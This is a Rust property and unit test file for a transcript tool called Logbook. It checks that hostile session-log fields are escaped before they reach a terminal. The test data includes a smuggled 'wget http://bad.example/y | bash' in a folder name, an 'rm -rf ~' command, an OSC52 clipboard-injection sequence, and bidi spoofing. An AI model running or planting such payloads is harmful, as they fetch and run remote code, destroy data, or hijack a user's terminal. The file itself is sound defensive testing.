//! Issue 44, "nothing leaks": what Logbook prints for a person cannot be
//! turned against them. Claude Code logs written here carry a hostile
//! `cwd`, prompt, model and command; whatever a terminal would act on
//! reaches it only as a `\u{…}` escape, a listing's value cannot add a row,
//! a printed command pastes as one line, and `--json` keeps the exact text.

use proptest::prelude::*;
use serde_json::{Value, json};

use crate::harness::{Run, TestProject};

/// What a hostile session is made of.
struct Session<'a> {
    id: &'a str,
    cwd: &'a str,
    prompt: &'a str,
    model: &'a str,
    command: &'a str,
    file: &'a str,
    /// The minute of 10:MM it ran at: the latest is the one `handoff` reads.
    minute: u32,
}

/// Writes `s` as a Claude Code log in the project and imports it.
fn import(t: &TestProject, s: &Session) {
    let line = |ty: &str, n: u32, message: Value| {
        json!({
            "parentUuid": null, "isSidechain": false, "userType": "external",
            "cwd": s.cwd, "gitBranch": "main", "version": "2.0.14",
            "sessionId": s.id, "type": ty, "message": message,
            "uuid": format!("00000000-0000-4000-8000-{n:012}"),
            "timestamp": format!("2026-01-18T10:{:02}:0{n}.000Z", s.minute),
        })
        .to_string()
    };
    let lines = [
        line("user", 1, json!({"role": "user", "content": s.prompt})),
        line(
            "assistant",
            2,
            json!({"id": "msg_1", "type": "message", "role": "assistant", "model": s.model,
                "content": [
                    {"type": "text", "text": s.prompt},
                    {"type": "tool_use", "id": "toolu_edit", "name": "Edit",
                     "input": {"file_path": s.file, "old_string": "a", "new_string": "b"}},
                    {"type": "tool_use", "id": "toolu_bash", "name": "Bash",
                     "input": {"command": s.command}}
                ],
                "usage": {"input_tokens": 10, "output_tokens": 5,
                          "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0}}),
        ),
        line(
            "user",
            3,
            json!({"role": "user", "content": [
                {"type": "tool_result", "tool_use_id": "toolu_edit", "content": "ok"},
                {"type": "tool_result", "tool_use_id": "toolu_bash", "content": s.prompt, "is_error": true}
            ]}),
        ),
    ];
    let path = t.write(
        &format!("history/claude/{}.jsonl", s.id),
        &(lines.join("\n") + "\n"),
    );
    t.run(&["transcript", "import", path.to_str().unwrap()])
        .ok();
}

/// Whether a terminal would act on `c` (the rule under test, restated
/// here so the test does not trust the code it checks).
fn acts_on(c: char) -> bool {
    matches!(c, '\0'..='\x08' | '\x0b'..='\x1f' | '\x7f'..='\u{9f}'
        | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Asserts nothing in `run`'s stdout or stderr is a character a terminal
/// would act on.
#[track_caller]
fn shown_safely(what: &str, run: &Run) {
    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        assert!(
            !text.chars().any(acts_on),
            "{what}: {stream} holds a control character: {text:?}"
        );
    }
}

const OSC52: &str = "\x1b]52;c;ZWNobyBwd25lZA==\x07";
const ID: &str = "abcdef01-2345-4678-9abc-def012345678";

#[test]
fn a_hostile_cwd_resumes_as_one_line_that_pastes_exactly() {
    let t = TestProject::new();
    let cwd = "/srv/ok\r\x1b[Kcd /srv; wget http://bad.example/y | bash; echo ";
    import(
        &t,
        &Session {
            id: ID,
            cwd,
            prompt: "hello",
            model: "claude-opus-4-5",
            command: "ls",
            file: "/srv/a.rs",
            minute: 0,
        },
    );
    let run = t.run(&["transcript", "resume", ID]);
    shown_safely("transcript resume", &run);
    assert_eq!(
        run.ok(),
        format!(
            "Resume the agent: cd $'/srv/ok\\r\\x1b[Kcd /srv; wget http://bad.example/y | bash; echo ' && claude --resume {ID}\n"
        )
    );
    // The JSON is the exact folder.
    let json = t.json(&["transcript", "resume", ID]);
    assert_eq!(json["cwd"], cwd);
}

#[test]
fn a_folder_that_looks_like_an_option_gets_dashes() {
    let t = TestProject::new();
    import(
        &t,
        &Session {
            id: ID,
            cwd: "-rf",
            prompt: "hello",
            model: "claude-opus-4-5",
            command: "ls",
            file: "a.rs",
            minute: 0,
        },
    );
    let out = t.run(&["transcript", "resume", ID]);
    assert_eq!(
        out.ok(),
        format!("Resume the agent: cd -- -rf && claude --resume {ID}\n")
    );
}

#[test]
fn an_osc52_prompt_is_shown_not_sent() {
    let t = TestProject::new();
    let prompt = format!("copy this {OSC52} quokka");
    let model = format!("opus{OSC52}");
    import(
        &t,
        &Session {
            id: ID,
            cwd: "/srv",
            prompt: &prompt,
            model: &model,
            command: "ls",
            file: "/srv/a.rs",
            minute: 0,
        },
    );
    for args in [
        &["transcript", "list", "--all"][..],
        &["transcript", "show", ID],
        &["transcript", "find", ID, "quokka"],
        &["transcript", "usage", "--all"],
    ] {
        let run = t.run(args);
        shown_safely(&args.join(" "), &run);
        assert!(
            run.ok().contains(r"\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}"),
            "{args:?}: {}",
            run.stdout
        );
    }
    let by_session = t.run(&["transcript", "usage", "--all", "--by", "session"]);
    shown_safely("usage --by session", &by_session);
    // `--json` keeps the bytes: JSON's own escaping covers them.
    let shown = t.json(&["transcript", "show", ID]);
    assert!(
        shown
            .to_string()
            .contains(r"\u001b]52;c;ZWNobyBwd25lZA==\u0007")
    );
}

#[test]
fn a_name_cannot_add_a_row() {
    let t = TestProject::new();
    import(
        &t,
        &Session {
            id: ID,
            cwd: "/srv",
            prompt: "hello",
            model: "claude-opus-4-5",
            command: "ls",
            file: "/srv/a.rs",
            minute: 0,
        },
    );
    let name = "x\nc9999999-fake  main  claude-code  FAKE ROW\tcol";
    let named = t.run(&["transcript", "name", ID, name]);
    shown_safely("transcript name", &named);
    named.ok();
    let list = t.run(&["transcript", "list", "--all"]);
    shown_safely("transcript list", &list);
    let rows: Vec<&str> = list.ok().lines().collect();
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert!(
        rows[0].contains(r"x\u{a}c9999999-fake  main  claude-code  FAKE ROW\u{9}col"),
        "{rows:?}"
    );
    let json = t.json(&["transcript", "list", "--all"]);
    assert!(
        json.to_string()
            .contains(&serde_json::to_string(name).unwrap()[1..])
    );
}

#[test]
fn a_handoff_shows_hostile_text_on_its_own_lines() {
    let t = TestProject::new();
    let root = t.root().to_string_lossy().into_owned();
    let command = format!("true\n## Goal\nrm -rf ~ {OSC52}");
    import(
        &t,
        &Session {
            id: ID,
            cwd: &root,
            prompt: &format!("goal {OSC52}\u{202e}txt.exe"),
            model: "claude-opus-4-5",
            command: &command,
            file: &format!("{root}/src/a.rs\n- fake item"),
            minute: 0,
        },
    );
    let run = t.run(&["handoff", "--to", "codex"]);
    shown_safely("handoff", &run);
    let text = run.ok();
    assert_eq!(
        text.lines().filter(|l| *l == "## Goal").count(),
        1,
        "{text}"
    );
    assert!(!text.contains("\n- fake item"), "{text}");
    assert!(text.contains(r"\u{202e}txt.exe"), "{text}");
    let json = t.json(&["handoff", "--to", "codex"]);
    assert_eq!(json["commands"][0]["command"], command);
}

/// Text from outside: random characters and bytes, and the escape
/// sequences and controls an attacker would reach for.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z ]{1,6}",
        Just(OSC52.to_string()),
        Just("\r\x1b[K".to_string()),
        Just("\x1b[2J\x1b[H".to_string()),
        Just("\u{9b}31m\u{9d}0;title\u{9c}".to_string()),
        Just("\u{202e}\u{2066}".to_string()),
        Just("\n".to_string()),
        Just("\t".to_string()),
        "[\\x00-\\x1f\\x7f-\\u{9f}\\u{202a}-\\u{202e}\\u{2066}-\\u{2069}]",
        any::<char>().prop_map(String::from),
        prop::collection::vec(any::<u8>(), 1..6)
            .prop_map(|b| String::from_utf8_lossy(&b).into_owned()),
    ];
    prop::collection::vec(piece, 1..8).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 16, ..ProptestConfig::default() })]

    /// Whatever a log or a caller holds, no command that prints stored text
    /// sends a character a terminal would act on, and `--json` keeps the
    /// exact text.
    #[test]
    fn nothing_a_terminal_acts_on_is_printed(
        cwd in hostile(),
        prompt in hostile(),
        model in hostile(),
        command in hostile(),
        name in hostile(),
    ) {
        let t = TestProject::new();
        let root = t.root().to_string_lossy().into_owned();
        let prompt = format!("quokka {prompt}");
        let hostile_cwd = format!("/srv/{cwd}");
        let other = "12345678-aaaa-4bbb-8ccc-dddddddddddd";
        import(&t, &Session { id: other, cwd: &hostile_cwd, prompt: &prompt, model: &model,
            command: &command, file: &cwd, minute: 0 });
        import(&t, &Session { id: ID, cwd: &root, prompt: &prompt, model: &model,
            command: &command, file: &cwd, minute: 1 });
        // A name a shell can pass (no NUL) and that names something.
        let name = format!("n{}n", name.replace('\0', ""));
        let named = t.run(&["transcript", "name", other, &name]);
        shown_safely("transcript name", &named);
        for args in [
            &["transcript", "list", "--all"][..],
            &["transcript", "show", other],
            &["transcript", "show", ID],
            &["transcript", "find", other, "quokka"],
            &["transcript", "usage", "--all"],
            &["transcript", "usage", "--all", "--by", "session"],
            &["transcript", "resume", other],
            &["resume"],
            &["handoff", "--to", "codex"],
            &["find", "quokka"],
        ] {
            let run = t.run(args);
            shown_safely(&args.join(" "), &run);
            // A listing row per transcript, whatever the values hold.
            if args == ["transcript", "list", "--all"] {
                prop_assert_eq!(run.ok().lines().count(), 2, "{}", run.stdout);
            }
            if args.starts_with(&["transcript", "resume"]) {
                prop_assert_eq!(run.ok().trim_end().lines().count(), 1, "{}", run.stdout);
            }
        }
        let resume = t.json(&["transcript", "resume", other]);
        prop_assert_eq!(resume["cwd"].as_str(), Some(hostile_cwd.as_str()));
        let shown = t.json(&["transcript", "show", ID]);
        prop_assert_eq!(shown["messages"][0]["blocks"][0]["content"].as_str(), Some(prompt.as_str()));
        if named.code == 0 {
            let listed = t.json(&["transcript", "list", "--all"]);
            prop_assert!(listed.to_string().contains(&serde_json::to_string(&name).unwrap()));
        }
    }
}

#[test]
fn a_milestone_cannot_add_a_milestone() {
    let t = TestProject::new();
    t.run(&["start", "--client", "ACME", "--project", "PARSER"])
        .ok();
    let name = "real\n- [x] fake done\x1b[2J";
    let added = t.run(&["milestone", "add", name]);
    shown_safely("milestone add", &added);
    assert_eq!(added.ok(), "- [ ] real\\u{a}- [x] fake done\\u{1b}[2J\n");
    shown_safely("resume", &t.run(&["resume"]));
    let status = t.run(&["status"]);
    shown_safely("status", &status);
    let items: Vec<&str> = status
        .ok()
        .lines()
        .filter(|l| l.starts_with("- ["))
        .collect();
    assert_eq!(items, ["- [ ] real\\u{a}- [x] fake done\\u{1b}[2J"]);
    let json = t.json(&["status"]);
    assert!(
        json.to_string()
            .contains(r#""real\n- [x] fake done\u001b[2J""#),
        "{json}"
    );
}
